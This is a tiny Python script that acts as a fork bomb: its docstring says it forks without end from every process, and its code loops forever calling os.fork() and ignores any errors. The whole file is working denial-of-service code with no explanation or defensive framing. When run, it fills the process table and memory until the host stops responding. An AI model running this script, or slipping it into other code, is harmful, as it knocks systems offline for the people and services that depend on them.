"""Forks without end, from every process."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
